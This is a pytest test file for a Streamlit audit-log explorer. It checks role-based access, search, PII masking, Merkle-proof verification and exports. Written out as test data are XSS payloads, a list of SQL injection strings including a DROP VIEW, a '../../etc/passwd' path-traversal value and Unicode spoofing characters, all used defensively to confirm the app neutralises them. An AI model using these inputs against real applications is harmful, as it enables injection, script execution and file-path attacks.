"""The explorer under Streamlit's AppTest: every page for every role, sign-in, roles,
SQL injection in every filter, a hostile event rendered inert, no plain PII for an auditor.

The lake helper here (`build`) is shared with test_catalog.py and test_explorer_browser.py:
one small lake per process with generated landing data, a hostile event (`<script>` in its
data), findings of two evaluations (the older must never show), a verified checkpoint and a
catalog file, and the set of plain PII values of the landing data."""
from __future__ import annotations

import gzip
import json
import os
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

XSS_EVENT_ID = "00000000-0000-4000-8000-00000000c0de"
# A producer's own PII where the contract has none: data members named for a person's data,
# an e-mail as actor id and as region (kept as written in the ledger, masked for auditors).
LEAK_EVENT_ID = "00000000-0000-4000-8000-0000000001ea"
PRODUCER_PII = ("Zoe Leakname", "leak.data@example.com", "producer.actor@example.com", "region.leak@example.com")
XSS_PAYLOAD = "<script>window.__xss=1;alert('xss')</script>"
XSS_IMG = '<img src=x onerror="window.__xss=1">'
STALE_RULE = "STALE-RULE"
PASSWORDS = {"ann": ("auditor", "auditor-pass-1"), "pia": ("privacy_officer", "privacy-pass-1"),
             "adam": ("admin", "admin-pass-12")}

_BUILT: dict = {}


def pii_values(landing: Path) -> set[str]:
    """Every plain PII value (subject phone/email/name, actor ip) in the landing files."""
    out: set[str] = set()

    def obj(v):
        if isinstance(v, str):
            try:
                return json.loads(v)
            except ValueError:
                return None
        return v

    def take(ev):
        if not isinstance(ev, dict):
            return
        a, s = obj(ev.get("actor")), obj(ev.get("subject"))
        if isinstance(a, dict) and isinstance(a.get("ip"), str) and len(a["ip"]) >= 7:
            out.add(a["ip"])
        if isinstance(s, dict):
            for k in ("phone", "email", "name"):
                if isinstance(s.get(k), str) and len(s[k]) >= 6:
                    out.add(s[k])

    for p in sorted(Path(landing).rglob("*")):
        if p.name.endswith(".parquet"):
            for r in pq.read_table(p).to_pylist():
                take(r)
        elif p.name.endswith((".jsonl", ".jsonl.gz")):
            opener = gzip.open if p.name.endswith(".gz") else open
            with opener(p, "rb") as f:
                for line in f:
                    try:
                        take(json.loads(line))
                    except ValueError:
                        pass
    return out


def find_leaks(values, texts) -> list[str]:
    """The values that occur in any of the texts (DuckDB does the substring join fast)."""
    import duckdb

    lines = [line for t in texts for line in str(t).splitlines() if line]
    con = duckdb.connect()
    con.execute("CREATE TABLE v (v VARCHAR)")
    con.executemany("INSERT INTO v VALUES (?)", [[x] for x in values])
    con.execute("CREATE TABLE t (t VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?)", [[x] for x in lines]) if lines else None
    found = [r[0] for r in con.execute("SELECT DISTINCT v FROM v, t WHERE contains(t, v) ORDER BY 1").fetchall()]
    con.close()
    return found


def _xss_event(occurred_at: str) -> dict:
    return {
        "event_id": XSS_EVENT_ID,
        "occurred_at": occurred_at,
        "event_type": "user.login",
        "source": "admin-console",
        "tenant_id": "tenant-xss",
        "actor": {"type": "user", "id": "mallory", "ip": "203.0.113.77"},
        "subject": {"id": "subj-xss", "phone": "+13125550199", "email": "victim.xss@example.com",
                    "name": "Victim Xssperson", "country": "US", "region": "IL", "timezone": "America/Chicago"},
        "lawful_basis": "contract",
        "data": {"method": XSS_PAYLOAD, "note": XSS_IMG},
    }


def _leak_event(occurred_at: str) -> dict:
    return {
        "event_id": LEAK_EVENT_ID, "occurred_at": occurred_at, "event_type": "user.login", "source": "admin-console",
        "tenant_id": "tenant-xss", "actor": {"type": "user", "id": PRODUCER_PII[2]},
        "subject": {"id": "subj-leak", "country": "US", "region": PRODUCER_PII[3]}, "lawful_basis": "contract",
        "data": {"method": "sso", "customer_name": PRODUCER_PII[0], "caller_email": PRODUCER_PII[1]},
    }


def _findings(lake, ground_truth: dict) -> None:
    """Two evaluations: an old one (a rule that must not show) and the latest, from the
    generator's ground truth."""
    import pyarrow.compute as pc

    from auditlake.lake import tables

    wanted = [(f["rule_id"], f["event_id"]) for f in ground_truth["findings"]]
    led = lake.delta("ledger").to_pyarrow_dataset().to_table(
        columns=["event_id", "tenant_id", "occurred_at"], filter=pc.field("event_id").isin([e for _, e in wanted]))
    info = {r["event_id"]: r for r in led.to_pylist()}
    now = datetime.now(timezone.utc)
    as_of = datetime.fromisoformat(ground_truth["as_of"].replace("Z", "+00:00"))
    some = next(iter(info.values()))

    def rows(eval_id, when, items):
        return [{"evaluation_id": eval_id, "as_of": as_of, "evaluated_at": when, "code_version": "test",
                 "tree_size": 0, "rule_id": rule, "event_id": eid, "tenant_id": info[eid]["tenant_id"],
                 "occurred_at": info[eid]["occurred_at"], "severity": "high", "detail": f"{rule} planted"}
                for rule, eid in items]

    old = rows("eval-old", now - timedelta(days=1), [(STALE_RULE, some["event_id"])])
    new = rows("eval-new", now, [(r, e) for r, e in wanted if e in info])
    assert len(new) == len(wanted)
    v = tables.version(lake, "findings")
    v = tables.append(lake, "findings", pa.Table.from_pylist(old, schema=tables.FINDINGS), v)
    tables.append(lake, "findings", pa.Table.from_pylist(new, schema=tables.FINDINGS), v)


def build(root: Path, events: int = 3000) -> dict:
    """Build (once per process) and return {lake, home, landing, pii, users, ...}."""
    if _BUILT:
        return _BUILT
    from auditlake.catalog import add_user, build_catalog
    from auditlake.generate import generate
    from auditlake.ingest import ingest
    from auditlake.lake.store import Lake
    from auditlake.verify import verify

    home = root / "home"
    home.mkdir(parents=True, exist_ok=True)
    old_home = os.environ.get("AUDITLAKE_HOME")
    os.environ["AUDITLAKE_HOME"] = str(home)
    try:
        gen = root / "gen"
        summary = generate(gen, events=events, seed=7, days=20)
        truth = json.loads((gen / "ground_truth.json").read_text())
        xss_dir = root / "xss"
        xss_dir.mkdir(exist_ok=True)
        last_day = datetime.fromisoformat(truth["as_of"].replace("Z", "+00:00")) - timedelta(hours=1)
        at = last_day.strftime("%Y-%m-%dT%H:%M:%SZ")
        (xss_dir / "hostile.jsonl").write_text(json.dumps(_xss_event(at)) + "\n" + json.dumps(_leak_event(at)) + "\n")
        lake = Lake.open(str(root / "lake"))
        ingest(lake, [str(gen / "landing")])
        ingest(lake, [str(xss_dir)])
        _findings(lake, truth)
        from auditlake.lake import retention
        from auditlake.lake.meta import open_lake_keys

        retention.lock_new(lake, open_lake_keys(lake))  # what the lake's own writers do
        report = verify(lake)
        assert report.ok, report.to_dict()
        users = root / "explorer_users.toml"
        for name, (role, pw) in PASSWORDS.items():
            add_user(name, role, pw, users)
        catalog = build_catalog(lake)
    finally:
        if old_home is None:
            os.environ.pop("AUDITLAKE_HOME", None)
        else:
            os.environ["AUDITLAKE_HOME"] = old_home
    pii = pii_values(gen / "landing") | pii_values(xss_dir)
    _BUILT.update(lake=lake, home=home, landing=gen / "landing", truth=truth, summary=summary, pii=pii,
                  users=users, catalog=catalog, root=root)
    return _BUILT


def sample_event(lake) -> dict:
    """A generated event with a subject and a call id (for searches)."""
    import duckdb

    from auditlake.catalog import delta_extension_path

    con = duckdb.connect()
    con.execute(f"LOAD '{delta_extension_path()}'")
    row = con.execute(
        "SELECT event_id, tenant_id, subject_id, actor_id, json_extract_string(data, '$.call_id') AS call_id, "
        "event_date, event_type FROM delta_scan(?) WHERE event_type = 'call.started' AND subject_id IS NOT NULL "
        "ORDER BY occurred_at DESC, seq LIMIT 1", [lake.table_uri("ledger")]).fetchone()
    con.close()
    keys = ("event_id", "tenant_id", "subject_id", "actor_id", "call_id", "event_date", "event_type")
    return dict(zip(keys, row))


def uuid4() -> str:
    return str(uuid.uuid4())


# ============================================================================= AppTest
import sys  # noqa: E402
import types  # noqa: E402

import pytest  # noqa: E402

APP = Path(__file__).resolve().parent.parent / "dashboards" / "app.py"
PAGES_BY_ROLE = {
    "auditor": ["Overview", "Search", "Event", "Compliance", "Exports", "SQL"],
    "privacy_officer": ["Overview", "Search", "Event", "Compliance", "Exports", "SQL", "Privacy"],
    "admin": ["Overview", "Search", "Event", "Compliance", "Exports", "SQL", "Admin"],
}
USER_OF_ROLE = {role: name for name, (role, _) in PASSWORDS.items()}
INJECTIONS = [
    "' OR '1'='1",
    "x' OR 1=1 --",
    "'; DROP VIEW events; --",
    "%' OR event_id LIKE '%",
    "1) OR (1=1",
    '" OR ""="',
    "' UNION SELECT * FROM events --",
    "\\'; SELECT 1; --",
]


def _clear_caches():
    import streamlit as st

    st.cache_data.clear()
    st.cache_resource.clear()


@pytest.fixture(scope="session")
def demo(tmp_path_factory):
    return build(tmp_path_factory.mktemp("explorer"))


@pytest.fixture
def app_env(demo, monkeypatch):
    monkeypatch.setenv("AUDITLAKE_HOME", str(demo["home"]))
    monkeypatch.setenv("AUDITLAKE_LAKE", demo["lake"].uri)
    monkeypatch.setenv("AUDITLAKE_EXPLORER_USERS", str(demo["users"]))
    _clear_caches()
    yield demo
    _clear_caches()


@pytest.fixture
def tiny(tmp_path, monkeypatch):
    """A separate small lake (hand-made events) that a test may change, with every user."""
    from events import event, write_jsonl

    from auditlake.catalog import add_user
    from auditlake.ingest import ingest
    from auditlake.lake.store import Lake

    lake = Lake.open(str(tmp_path / "lake"))
    users = tmp_path / "users.toml"
    for name, (role, pw) in PASSWORDS.items():
        add_user(name, role, pw, users)
    monkeypatch.setenv("AUDITLAKE_LAKE", lake.uri)
    monkeypatch.setenv("AUDITLAKE_EXPLORER_USERS", str(users))
    _clear_caches()
    evs = [event(n=i) for i in range(5)]
    ingest(lake, [str(write_jsonl(tmp_path / "a" / "a.jsonl", evs))])
    yield {"lake": lake, "events": evs, "tmp": tmp_path}
    _clear_caches()


def new_app():
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(APP), default_timeout=60)
    at.secrets["explorer"] = {"test": True}  # explicit secrets: never the developer's own file
    return at


def login(name: str, password: str | None = None):
    at = new_app()
    at.run()
    at.text_input(key="login_user").set_value(name)
    at.text_input(key="login_password").set_value(password if password is not None else PASSWORDS[name][1])
    at.button(key="FormSubmitter:login-Sign in").click().run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def login_as(role: str):
    return login(USER_OF_ROLE[role])


def goto(at, page: str):
    at.radio(key="page").set_value(page).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def all_text(at) -> str:
    """Everything the app sent to the browser: every element's protobuf (markdown, JSON,
    code, captions, chart specs, dataframe Arrow bytes) plus dataframe values as text."""
    parts = []

    def walk(node):
        proto = getattr(node, "proto", None)
        if proto is not None:
            parts.append(str(proto))
        for child in (getattr(node, "children", None) or {}).values():
            walk(child)

    walk(at._tree)
    for df in at.dataframe:
        parts.append(df.value.to_string())
    return "\n".join(parts)


def table(at, key: str):
    """The dataframe shown by core.show_table(..., key) (AppTest reaches dataframes by
    index only, so the app wraps each in a container keyed `tbl-<key>`)."""
    found = []

    def walk(node):
        proto = getattr(node, "proto", None)
        if type(node).__name__ == "Block" and str(getattr(proto, "id", "")).endswith(f"-tbl-{key}"):
            found.extend(c for c in node.children.values() if type(c).__name__ == "Dataframe")
        for child in (getattr(node, "children", None) or {}).values():
            walk(child)

    walk(at._tree)
    if not found:
        raise KeyError(key)
    return found[0].value


def no_unsafe_html(at) -> None:
    text = all_text(at)
    assert "allow_html: true" not in text
    assert "unsafe_allow_html" not in text
    for md in at.markdown:
        assert "<script" not in md.value and "onerror" not in md.value


def caption_texts(at) -> list[str]:
    return [c.value for c in at.caption]


def search(at, **filters):
    """Fill the search form (dates cover the whole lake unless given)."""
    from datetime import date

    goto(at, "Search")
    at.date_input(key="search_from").set_value(filters.pop("d_from", date(2020, 1, 1)))
    at.date_input(key="search_to").set_value(filters.pop("d_to", date(2030, 12, 31)))
    for key in ("tenant", "actor", "subject", "call"):
        at.text_input(key=f"search_{key}").set_value(filters.pop(key, ""))
    at.multiselect(key="search_types").set_value(filters.pop("types", []))
    at.number_input(key="search_page").set_value(filters.pop("page", 1))
    assert not filters
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    total = next(c for c in caption_texts(at) if "matching events" in c)
    return int(total.split()[0].replace(",", ""))


def ledger_count(demo) -> int:
    return demo["lake"].delta("ledger").to_pyarrow_dataset().count_rows()


# ----------------------------------------------------------------------------- sign-in, roles

def test_sign_in_rejects_bad_credentials(app_env):
    at = login("ann", "wrong-password")
    assert "auth" not in at.session_state
    assert any("wrong password" in e.value for e in at.error)
    at = login("nobody", "whatever-pass")
    assert "auth" not in at.session_state
    assert not at.radio  # no page selector before sign-in


@pytest.mark.parametrize("role", list(PAGES_BY_ROLE))
def test_every_page_renders_for_every_role(app_env, role):
    at = login_as(role)
    assert at.session_state["auth"]["role"] == role
    assert list(at.radio(key="page").options) == PAGES_BY_ROLE[role]
    for page in PAGES_BY_ROLE[role]:
        goto(at, page)
        assert not at.error, (page, [e.value for e in at.error])
        assert at.header[0].value
        no_unsafe_html(at)


def test_auditor_cannot_open_privileged_pages(app_env):
    at = login_as("admin")
    goto(at, "Admin")
    assert at.button(key="adm_verify")
    # The same session downgraded to an auditor: the privileged page is gone at once.
    at.session_state["auth"] = {"user": "ann", "role": "auditor", "via": "password"}
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert list(at.radio(key="page").options) == PAGES_BY_ROLE["auditor"]
    assert at.radio(key="page").value == "Overview"
    assert not [b for b in at.button if b.key in ("adm_verify", "adm_catalog")]
    assert not [t for t in at.text_input if t.key == "reveal_subject"]
    # And the pages refuse a role they are not for, whoever calls them.
    from dashboards import core

    assert not core.allowed("auditor", "Privacy") and not core.allowed("auditor", "Admin")
    assert core.allowed("privacy_officer", "Privacy") and not core.allowed("admin", "Privacy")


def test_a_demoted_or_removed_user_loses_pages_at_once(tiny):
    """The role is read from the users file on every run, not kept from sign-in."""
    from auditlake.catalog import add_user

    users = tiny["tmp"] / "users.toml"
    at = login("pia")
    assert "Privacy" in at.radio(key="page").options
    add_user("pia", "auditor", "privacy-pass-1", users)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert list(at.radio(key="page").options) == PAGES_BY_ROLE["auditor"]
    assert at.session_state["auth"]["role"] == "auditor"
    text = users.read_text()
    users.write_text("\n\n".join(b for b in text.split("\n\n") if not b.startswith('[users."pia"]')))
    at.run()
    assert "auth" not in at.session_state and at.text_input(key="login_user")


def test_a_users_file_others_can_write_stops_sign_in(tiny):
    users = tiny["tmp"] / "users.toml"
    at = login("ann")
    users.chmod(0o666)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert any("Sign-in is unavailable" in e.value for e in at.error)
    assert not [r for r in at.radio if r.key == "page"]
    users.chmod(0o600)
    at.run()
    assert at.radio(key="page").options


SSO_APP = """
from pathlib import Path
import runpy
import streamlit as st

SIGNED_OUT = Path({flag!r})

class ProviderUser(dict):  # st.user while the provider's identity cookie is set
    @property
    def is_logged_in(self):
        return not SIGNED_OUT.exists()

def provider_logout():  # what st.logout does: the cookie is gone
    SIGNED_OUT.touch()

st.user = ProviderUser(email="carol@example.com")
st.logout = provider_logout
runpy.run_path({app!r}, run_name="__main__")
"""


def test_signing_out_ends_the_single_sign_on_session(tiny):
    from streamlit.testing.v1 import AppTest

    tmp = tiny["tmp"]
    users = tmp / "users.toml"
    users.write_text(users.read_text() + '\n[oidc]\n"carol@example.com" = "privacy_officer"\n')
    flag = tmp / "signed-out"
    app = tmp / "sso_app.py"
    app.write_text(SSO_APP.format(flag=str(flag), app=str(APP)))
    at = AppTest.from_file(str(app), default_timeout=60)
    at.secrets["auth"] = {"redirect_uri": "http://127.0.0.1:8501/oauth2callback", "cookie_secret": "test-secret",
                          "client_id": "explorer", "client_secret": "s", "server_metadata_url":
                          "http://127.0.0.1:9/.well-known/openid-configuration"}
    at.run()
    assert at.session_state["auth"] == {"user": "carol@example.com", "role": "privacy_officer", "via": "oidc"}
    at.button(key="logout").click().run()
    assert not at.exception, [e.value for e in at.exception]
    assert flag.exists() and "auth" not in at.session_state
    assert not [r for r in at.radio if r.key == "page"] and at.text_input(key="login_user")


# ----------------------------------------------------------------------------- overview

def test_overview_shows_counts_integrity_quarantine_findings_and_tail(app_env):
    demo = app_env
    at = login_as("auditor")
    n = ledger_count(demo)
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Events"] == f"{n:,}"
    assert metrics["Tree size (last checkpoint)"] == f"{n:,}"
    assert metrics["Quarantined lines"] == f"{demo['summary']['quarantined']:,}"
    assert metrics["Findings (latest evaluation)"] == f"{len(demo['truth']['findings']):,}"
    status = at.json[0].value
    assert str(n) in status and "last_verified_checkpoint" in status and "verified_by" in status
    assert any("last accepted on this machine" in s.value for s in at.success)
    assert len(at.get("vega_lite_chart")) >= 2  # events per day, per type
    findings = table(at, "ov_findings")
    assert STALE_RULE not in set(findings["rule_id"])
    assert int(findings["findings"].sum()) == len(demo["truth"]["findings"])
    tail = table(at, "ov_tail")
    assert len(tail) == 20 and int(tail["seq"].max()) == n - 1


def test_overview_warns_when_the_latest_checkpoint_is_not_the_one_verify_accepted(tiny):
    """Same tree size, another root (a forged checkpoint row): no green banner, an error."""
    import pyarrow.parquet as pq

    from auditlake.verify import verify

    lake = tiny["lake"]
    assert verify(lake).ok
    (f,) = Path(lake.table_uri("checkpoints")).glob("*.parquet")
    t = pq.read_table(f)
    os.chmod(f, 0o644)
    pq.write_table(t.set_column(t.schema.get_field_index("root"), "root", pa.array(["f" * 64] * t.num_rows)), f)
    at = login_as("auditor")
    assert not at.success and any("do not hold the one `auditlake verify` last accepted" in e.value for e in at.error)


def test_a_page_over_a_lake_missing_a_ledger_file_says_so_in_one_line_not_a_traceback(tiny):
    lake = tiny["lake"]
    for f in Path(lake.table_uri("ledger")).rglob("*.parquet"):
        f.unlink()
    at = login_as("auditor")
    assert not at.exception, [e.value for e in at.exception]
    assert any("This page cannot be shown" in e.value for e in at.error)
    (line,) = [c.value for c in at.code if "Error" in c.value or "Exception" in c.value][:1]
    assert "\n" not in line and lake.uri not in line and len(line) <= 500


def test_invisible_characters_show_as_escapes_not_as_other_text(tiny):
    """A right-to-left override makes "\\u202eecnarusni-dniwhtron" read as northwind-insurance."""
    from events import event, write_jsonl

    from auditlake.ingest import ingest

    ev = event(n=50) | {"tenant_id": "\u202eecnarusni-dniwhtron\u202c"}
    ev["actor"] = ev["actor"] | {"id": "usr\u200b_1"}
    # A key with a real zero-width space and one with the typed escape: both shown, apart.
    ev["data"] = ev["data"] | {"approved_by\u200b": "usr_attacker", "approved_by\\u200b": "usr_peer"}
    ingest(tiny["lake"], [str(write_jsonl(tiny["tmp"] / "b" / "b.jsonl", [ev]))])
    at = open_event(login_as("auditor"), ev["event_id"])
    fields = json.loads(at.json[0].value)
    assert (fields["tenant_id"], fields["actor_id"]) == ("\\u202eecnarusni-dniwhtron\\u202c", "usr\\u200b_1")
    assert {k: v for k, v in fields["data"].items() if k.startswith("approved_by")} == {
        "approved_by\\u200b": "usr_attacker", "approved_by\\\\u200b": "usr_peer"}
    goto(at, "Overview")
    assert "\\u202eecnarusni-dniwhtron\\u202c" in set(table(at, "ov_tail")["tenant_id"])


def test_the_date_pickers_reach_every_event_not_ten_years_around_the_default(tiny):
    """Streamlit's own bounds are ten years either side of the value: an auditor typing an
    earlier date was silently ignored."""
    from datetime import date

    from events import event, write_jsonl

    from auditlake.ingest import ingest

    old = event("user.login", n=60, occurred_at="1999-06-01T12:00:00Z")
    ingest(tiny["lake"], [str(write_jsonl(tiny["tmp"] / "old" / "a.jsonl", [old]))])
    at = goto(login_as("auditor"), "Search")
    picker = at.date_input(key="search_from")
    assert picker.min <= date(1970, 1, 1) and picker.max >= date.today()
    assert search(at, d_from=date(1999, 1, 1)) == len(tiny["events"]) + 1
    # An event dated near the end of the calendar: the bound stops at 9999-12-31.
    far = event("user.login", n=61, occurred_at="9995-06-01T00:00:00Z")
    ingest(tiny["lake"], [str(write_jsonl(tiny["tmp"] / "far" / "a.jsonl", [far]))])
    at = goto(login_as("auditor"), "Search")
    assert not at.error and at.date_input(key="search_to").max == date(9999, 12, 31)
    last = event("user.login", n=62, occurred_at="9999-12-31T12:00:00Z")  # the calendar's last day has no next
    ingest(tiny["lake"], [str(write_jsonl(tiny["tmp"] / "last" / "a.jsonl", [last]))])
    at = goto(login_as("auditor"), "Search")
    assert not at.error and search(at, d_from=date(9999, 12, 31), d_to=date(9999, 12, 31)) == 1


def test_live_tail_refreshes_as_batches_land(tiny):
    """On a lake without a catalog file (in-memory views)."""
    from events import event, write_jsonl

    from auditlake.ingest import ingest

    at = login("ann")
    assert len(table(at, "ov_tail")) == 5
    ingest(tiny["lake"], [str(write_jsonl(tiny["tmp"] / "b" / "b.jsonl", [event(n=i) for i in range(5, 12)]))])
    at.run()
    tail = table(at, "ov_tail")
    assert len(tail) == 12 and int(tail["seq"].max()) == 11
    assert at.metric[0].value == "12"


# ----------------------------------------------------------------------------- search

def test_search_requires_a_range_filters_and_paginates(app_env):
    demo = app_env
    at = login_as("auditor")
    n = ledger_count(demo)
    assert search(at) == n
    ev = sample_event(demo["lake"])
    page1 = table(at, "search_results")
    assert len(page1) == 50
    assert search(at, page=2) == n
    page2 = table(at, "search_results")
    assert not set(page1["event_id"]) & set(page2["event_id"])
    for key, col in (("tenant", "tenant_id"), ("subject", "subject_id"), ("actor", "actor_id")):
        k = search(at, **{key: ev[col]})
        rows = table(at, "search_results")
        assert 0 < k < n and set(rows[col]) == {ev[col]}
    assert search(at, call=ev["call_id"]) >= 1
    assert ev["event_id"] in set(table(at, "search_results")["event_id"])
    k = search(at, types=["call.started"])
    assert 0 < k < n and set(table(at, "search_results")["event_type"]) == {"call.started"}
    from datetime import date

    day = date.fromisoformat(ev["event_date"])
    k = search(at, d_from=day, d_to=day)
    assert 0 < k < n and set(table(at, "search_results")["event_date"]) == {ev["event_date"]}
    # From after To: no query at all
    goto(at, "Search")
    at.date_input(key="search_from").set_value(date(2030, 1, 2))
    at.date_input(key="search_to").set_value(date(2030, 1, 1)).run()
    assert any("must not be after" in w.value for w in at.warning)


def test_sql_injection_in_every_filter_returns_nothing_extra(app_env):
    demo = app_env
    at = login_as("auditor")
    n = ledger_count(demo)
    for payload in INJECTIONS:
        for key in ("tenant", "actor", "subject", "call"):
            assert search(at, **{key: payload}) == 0, (key, payload)
            assert not at.error
    # The event id field accepts only UUIDs.
    goto(at, "Event")
    for payload in INJECTIONS:
        at.text_input(key="event_id").set_value(payload).run()
        assert any("not an event id" in w.value for w in at.warning)
    # Nothing broke: the views are intact and a plain search still finds everything.
    assert search(at) == n
    goto(at, "SQL")
    at.text_area(key="sql_text").set_value("SELECT count(*) AS n FROM events").run()
    at.button(key="sql_run").click().run()
    assert int(table(at, "sql_table").iloc[0]["n"]) == n


# ----------------------------------------------------------------------------- event

def open_event(at, event_id: str):
    goto(at, "Event")
    at.text_input(key="event_id").set_value(event_id).run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_event_page_fields_neighbours_proof_and_verify(app_env):
    demo = app_env
    ev = sample_event(demo["lake"])
    at = login_as("auditor")
    search(at, subject=ev["subject_id"])
    at.selectbox(key="search_pick").set_value(ev["event_id"]).run()
    at.button(key="search_open").click().run()
    assert at.radio(key="page").value == "Event"
    assert at.text_input(key="event_id").value == ev["event_id"]
    fields = json.loads(at.json[0].value)
    assert fields["event_id"] == ev["event_id"] and fields["subject_phone"] == "***" and fields["pii"] == "masked"
    assert "subject_pii_sealed" not in fields and "actor_ip_sealed" not in fields and "leaf" not in fields
    seq = fields["seq"]
    nb = table(at, "event_neighbours")
    assert list(nb["seq"]) == [s for s in (seq - 1, seq, seq + 1) if 0 <= s < ledger_count(demo)]
    proof = json.loads(at.json[1].value)
    assert proof["leaf_index"] == seq and proof["event_id"] == ev["event_id"] and "leaf" not in proof
    at.button(key="verify_event").click().run()
    assert any("Verified" in s.value for s in at.success), [e.value for e in at.error]
    # The neighbour buttons walk the chain.
    if seq > 0:
        at.button(key=f"nb_{seq - 1}").click().run()
        assert json.loads(at.json[0].value)["seq"] == seq - 1


def test_verify_rejects_a_tampered_proof(app_env):
    from auditlake.lake.store import Lake
    from auditlake.proofs import inclusion_proof
    from dashboards.views.event import check_proof

    demo = app_env
    ev = sample_event(demo["lake"])
    lake = Lake.open(demo["lake"].uri)
    doc = inclusion_proof(lake, ev["event_id"])
    row = {"event_id": ev["event_id"], "seq": doc["leaf_index"]}
    _clear_caches()
    assert check_proof(doc, row)[0]
    bad = dict(doc, proof=[("0" * 64)] + doc["proof"][1:]) if doc["proof"] else dict(doc, root="0" * 64)
    assert not check_proof(bad, row)[0]
    other = {"event_id": XSS_EVENT_ID, "seq": doc["leaf_index"] + 1}
    assert not check_proof(doc, other)[0]


def test_hostile_event_data_renders_inert(app_env):
    at = login_as("auditor")
    open_event(at, XSS_EVENT_ID)
    no_unsafe_html(at)
    fields = json.loads(at.json[0].value)
    assert fields["data"]["method"] == XSS_PAYLOAD  # shown as text, in a JSON viewer
    assert fields["data"]["note"] == XSS_IMG
    assert not at.get("html")
    for el in at.markdown:
        assert "xss" not in el.value.lower()


# ----------------------------------------------------------------------------- PII

def test_auditor_pages_hold_no_plain_pii(app_env):
    demo = app_env
    pii = demo["pii"]
    assert len(pii) > 100
    ev = sample_event(demo["lake"])
    at = login_as("auditor")
    seen = []
    for page in PAGES_BY_ROLE["auditor"]:
        goto(at, page)
        seen.append(all_text(at))
    search(at)
    seen.append(all_text(at))
    search(at, subject=ev["subject_id"])
    seen.append(all_text(at))
    for eid in (ev["event_id"], XSS_EVENT_ID):
        open_event(at, eid)
        seen.append(all_text(at))
    goto(at, "SQL")
    at.text_area(key="sql_text").set_value("SELECT * FROM events ORDER BY seq LIMIT 2000").run()
    at.button(key="sql_run").click().run()
    seen.append(all_text(at))
    at.text_area(key="sql_text").set_value("SELECT * FROM quarantine").run()
    at.button(key="sql_run").click().run()
    seen.append(all_text(at))
    assert ev["event_id"] in "\n".join(seen)
    leaked = find_leaks(pii, seen)
    assert not leaked, leaked[:10]


def test_producer_pii_outside_the_contract_is_masked_for_auditors(app_env):
    """PII a producer put where the contract has none (a data member named customer_name, an
    e-mail as actor id or region) is masked on the Event page and in Search results."""
    at = login_as("auditor")
    open_event(at, LEAK_EVENT_ID)
    fields = json.loads(at.json[0].value)
    assert fields["data"] == {"method": "sso", "customer_name": "***", "caller_email": "***"}
    assert fields["actor_id"] == "***" and fields["subject_region"] == "***"
    assert search(at, subject="subj-leak") == 1
    shown = table(at, "search_results")
    assert shown["event_id"].tolist() == [LEAK_EVENT_ID]
    leaked = find_leaks(set(PRODUCER_PII), [all_text(at), shown.to_string()])
    # (the search form keeps what was typed: here no PII, the subject id)
    assert not leaked, leaked
    # The console reads the member by its key: masked in the view, not only in the output.
    goto(at, "SQL")
    at.text_area(key="sql_text").set_value(
        f"SELECT data->>'customer_name' AS n, data->>'method' AS m, reverse(data->>'caller_email') AS r "
        f"FROM events WHERE event_id = '{LEAK_EVENT_ID}'").run()
    at.button(key="sql_run").click().run()
    assert table(at, "sql_table").to_dict("records") == [{"n": "***", "m": "sso", "r": "***"}]


# ----------------------------------------------------------------------------- compliance

def test_compliance_latest_findings_trend_and_drill_down(app_env):
    demo = app_env
    at = login_as("auditor")
    goto(at, "Compliance")
    per_rule = table(at, "comp_rules")
    want: dict[str, int] = {}
    for f in demo["truth"]["findings"]:
        want[f["rule_id"]] = want.get(f["rule_id"], 0) + 1
    assert dict(per_rule.groupby("rule_id")["findings"].sum()) == want
    assert STALE_RULE not in set(per_rule["rule_id"])
    assert len(at.get("vega_lite_chart")) >= 2  # per rule, daily trend
    rule = sorted(want)[0]
    at.selectbox(key="comp_rule").set_value(rule).run()
    rows = table(at, "comp_events")
    truth_ids = {f["event_id"] for f in demo["truth"]["findings"] if f["rule_id"] == rule}
    assert set(rows["event_id"]) == truth_ids
    assert rows["event_type"].notna().all()
    at.selectbox(key="comp_pick").set_value(sorted(truth_ids)[0]).run()
    at.button(key="comp_open").click().run()
    assert at.radio(key="page").value == "Event"
    assert json.loads(at.json[0].value)["event_id"] == sorted(truth_ids)[0]


# ----------------------------------------------------------------------------- exports

def test_export_download_name_is_sanitised(app_env, monkeypatch, tmp_path):
    """The page's wiring, with a stand-in build_export whose export id is hostile."""
    calls = []

    def fake_build_export(lake, out_dir, formats, filters, profile="default", actor=None):
        calls.append((out_dir, formats, filters, profile, actor))
        Path(out_dir).mkdir(parents=True)
        (Path(out_dir) / "manifest.json").write_text("{}")
        return {"export_id": "../../etc/passwd <x>", "rows": 3}

    fake = types.ModuleType("auditlake.export")
    fake.build_export = fake_build_export
    monkeypatch.setitem(sys.modules, "auditlake.export", fake)
    at = login_as("auditor")
    goto(at, "Exports")
    at.text_input(key="export_tenant").set_value("../../tmp/evil").run()
    at.button(key="export_build").click().run()
    assert not at.error, [e.value for e in at.error]
    out_dir, formats, filters, profile, actor = calls[0]
    assert actor == "ann"
    assert "evil" not in out_dir and "auditlake-export-" in out_dir and not Path(out_dir).exists()
    assert filters["tenant"] == ["../../tmp/evil"] and profile == "default" and formats == ["parquet"]
    assert at.get("download_button")
    assert at.session_state["export_result"]["name"] == "auditlake-export-_etc_passwd_x.zip"
    from auditlake.catalog import safe_filename

    assert safe_filename("../../etc/passwd <x>") == "etc_passwd_x"
    assert safe_filename("...") == "download"


def test_export_builds_a_real_bundle(tiny):
    pytest.importorskip("auditlake.export")
    import io
    import zipfile

    at = login("ann")
    goto(at, "Exports")
    at.date_input(key="export_from").set_value(__import__("datetime").date(2026, 1, 1))
    at.button(key="export_build").click().run()
    assert not at.error, [e.value for e in at.error]
    assert at.get("download_button")
    res = at.session_state["export_result"]
    assert res["name"].startswith("auditlake-export-export-") and res["name"].endswith(".zip")
    names = zipfile.ZipFile(io.BytesIO(res["data"])).namelist()
    assert any(n.endswith("manifest.json") for n in names), names
    blob = res["data"]
    for ev in tiny["events"]:  # the default profile releases no PII
        assert ev["subject"]["email"].encode() not in blob
    assert res["summary"]["rows"] == 5
